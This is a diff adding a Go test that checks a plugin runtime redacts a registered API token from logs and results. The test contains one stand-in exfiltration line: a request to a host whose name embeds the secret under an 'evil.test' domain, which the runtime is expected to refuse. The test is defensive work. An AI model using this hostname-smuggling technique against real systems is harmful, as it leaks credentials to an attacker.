@@ -226,3 +226,26 @@ func TestReroute(t *testing.T) {
 		t.Errorf("got %v", err)
 	}
 }
+
+// A secret goes where the plugin sends it, and neither into the log nor, by way of a
+// host's name, into a result.
+func TestGuestHTTPAndSecrets(t *testing.T) {
+	const secret = "AbC-123-Xyz-789"
+	known := &plugins.Redactor{}
+	known.Add("API_TOKEN", []byte(secret))
+	w := newWebsite(t)
+	var log bytes.Buffer
+	g := newRig(t, newRuntime(t, Options{Logger: logTo(&log), Redactor: known, CompileTimeout: 5 * time.Minute}), reaching(fetcher(t), w.by))
+	good(t, g.call("text", request(w.url+"/?key="+secret)), "hello")
+	echoed := g.call("fetch", `{"url":"`+w.url+`/echo","headers":{"X-Key":"`+secret+`"}}`)
+	if echoed.IsError || !strings.Contains(echoed.Text(), "GET [redacted:API_TOKEN]") {
+		t.Errorf("got %s", echoed.Text())
+	}
+	out := g.call("text", request("https://"+secret+".evil.test/"))
+	bad(t, out, "may not reach a host that has the value of the secret API_TOKEN in its name")
+	for where, text := range map[string]string{"the log": log.String(), "the result": out.Text(), "the answer": echoed.Text()} {
+		if strings.Contains(strings.ToLower(text), strings.ToLower(secret)) {
+			t.Errorf("%s shows the secret", where)
+		}
+	}
+}
